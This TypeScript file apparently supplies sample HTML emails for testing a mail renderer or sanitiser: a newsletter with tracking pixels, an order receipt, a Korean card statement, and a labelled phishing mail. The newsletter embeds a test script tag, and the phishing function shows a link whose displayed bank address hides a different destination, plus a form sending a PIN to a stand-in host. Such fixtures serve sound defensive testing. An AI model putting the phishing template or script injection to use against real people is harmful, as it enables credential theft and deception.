/* Markup of the kinds of HTML mail that companies send: tables, inline colours, remote pictures, tracking pixels. */

/** A weekly newsletter with remote pictures and a tracking pixel. */
export function newsletter(): string {
  const story = (title: string, text: string, picture: string) => `
    <tr><td style="padding:0 32px 28px">
      <img src="https://img.papergazette.example/${picture}.jpg" width="536" height="240" alt="${title}" style="display:block;width:100%;height:auto;border-radius:6px;background:#e8e2d5">
      <h2 style="font:600 21px/1.3 Georgia,serif;color:#23201a;margin:16px 0 6px">${title}</h2>
      <p style="font:15px/1.6 Georgia,serif;color:#4b463c;margin:0">${text} <a href="https://papergazette.example/${picture}?utm_source=mail&utm_campaign=47" style="color:#8a3b12">Read on</a></p>
    </td></tr>`;
  return `<!doctype html><html><body style="margin:0;background:#efe9dc">
  <script>document.title='owned'</script>
  <table role="presentation" width="100%" bgcolor="#efe9dc" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 12px">
  <table role="presentation" width="600" style="max-width:600px;width:100%;background:#fffdf8;border-radius:10px" cellpadding="0" cellspacing="0">
    <tr><td style="padding:32px 32px 20px;border-bottom:3px double #c9bfa8">
      <p style="font:600 30px Georgia,serif;color:#23201a;margin:0">The Paper Gazette</p>
      <p style="font:13px Georgia,serif;color:#7a7263;margin:4px 0 0">Number 47 · Sunday · For people who still write things down</p>
    </td></tr>
    <tr><td style="padding:24px 32px 24px"><p style="font:16px/1.65 Georgia,serif;color:#3b372f;margin:0">Good morning. This week: a mill in Gifu that makes forty sheets a day, why margins used to be wider, and what a fountain pen teaches about patience.</p></td></tr>
    ${story('Forty sheets a day', 'In a valley above Mino, the river decides the working hours. We spent a week with the last family that makes usuminogami the slow way.', 'mino')}
    ${story('The case for wide margins', 'Margins were where readers answered back. A short history of the empty part of the page.', 'margins')}
    <tr><td style="padding:20px 32px 28px;border-top:1px solid #e4dcc9"><p style="font:12px/1.6 Georgia,serif;color:#8b8374;margin:0">You receive this because you subscribed. <a href="https://papergazette.example/unsubscribe" style="color:#8b8374">Unsubscribe</a></p></td></tr>
  </table></td></tr></table>
  <img src="https://track.papergazette.example/open.gif?m=47&u=8812" width="1" height="1" alt="">
  </body></html>`;
}

/** An order confirmation. */
export function receipt(): string {
  const line = (name: string, count: number, price: string) =>
    `<tr><td style="padding:10px 0;border-bottom:1px solid #eee;font:14px Helvetica,Arial,sans-serif;color:#333">${name}<br><span style="color:#888;font-size:12px">Quantity ${count}</span></td><td align="right" style="padding:10px 0;border-bottom:1px solid #eee;font:14px Helvetica,Arial,sans-serif;color:#333">${price}</td></tr>`;
  return `<!doctype html><html><body style="margin:0;background:#ffffff"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
  <table width="560" style="max-width:560px;width:100%" cellpadding="0" cellspacing="0">
  <tr><td colspan="2" style="padding:24px 0 8px;font:700 22px Helvetica,Arial,sans-serif;color:#1d3557">Stationers’ Hall</td></tr>
  <tr><td colspan="2" style="padding:0 0 18px;font:15px/1.6 Helvetica,Arial,sans-serif;color:#333">Thank you, Mina. Your order <b>#20418</b> is being packed and leaves our warehouse tomorrow.</td></tr>
  ${line('Ledger, A5, dotted, linen cover', 2, '₩38,000')}${line('Iron gall ink, 50 ml', 1, '₩17,500')}${line('Blotting paper, 20 sheets', 1, '₩6,000')}
  <tr><td style="padding:14px 0;font:700 15px Helvetica,Arial,sans-serif;color:#111">Total</td><td align="right" style="padding:14px 0;font:700 15px Helvetica,Arial,sans-serif;color:#111">₩61,500</td></tr>
  <tr><td colspan="2" style="padding:10px 0 30px"><a href="https://stationershall.example/orders/20418" style="display:inline-block;background:#1d3557;color:#fff;text-decoration:none;padding:11px 22px;border-radius:6px;font:600 14px Helvetica,Arial,sans-serif">Track the parcel</a></td></tr>
  </table></td></tr></table><img src="https://px.stationershall.example/o/20418.gif" width="1" height="1"></body></html>`;
}

/** A bank's monthly notice, in Korean. */
export function bankNotice(): string {
  return `<!doctype html><html><body style="font-family:'Malgun Gothic',sans-serif;color:#222"><div style="border-top:4px solid #00529b;padding:20px 4px">
  <p style="font-size:18px;font-weight:bold;color:#00529b;margin:0 0 14px">11월 이용 대금 명세서</p>
  <p style="margin:0 0 14px">박미나 고객님, 이번 달 결제 예정 금액을 알려 드립니다.</p>
  <table cellpadding="8" style="border-collapse:collapse;font-size:14px"><tr bgcolor="#eef4fa"><th align="left">항목</th><th align="right">금액</th></tr>
  <tr><td style="border-bottom:1px solid #ddd">일시불</td><td align="right" style="border-bottom:1px solid #ddd">412,300원</td></tr>
  <tr><td style="border-bottom:1px solid #ddd">할부 (3/6)</td><td align="right" style="border-bottom:1px solid #ddd">83,500원</td></tr>
  <tr><td><b>합계</b></td><td align="right"><b>495,800원</b></td></tr></table>
  <p style="margin:16px 0 0;color:#666;font-size:13px">결제일: 2026년 12월 14일. 이 메일은 발신 전용입니다.</p></div></body></html>`;
}

/** Pretends to be the bank: its link says one place and goes to another. */
export function phishing(): string {
  return `<html><body><p>Dear customer,</p><p>Your account will be closed. Confirm your identity at
  <a href="http://hansolbank.example.claims-now.example/login">https://www.hansolbank.example</a> within 24 hours.</p>
  <form action="http://claims-now.example/take"><input name="pin" placeholder="PIN"><button>Confirm</button></form></body></html>`;
}
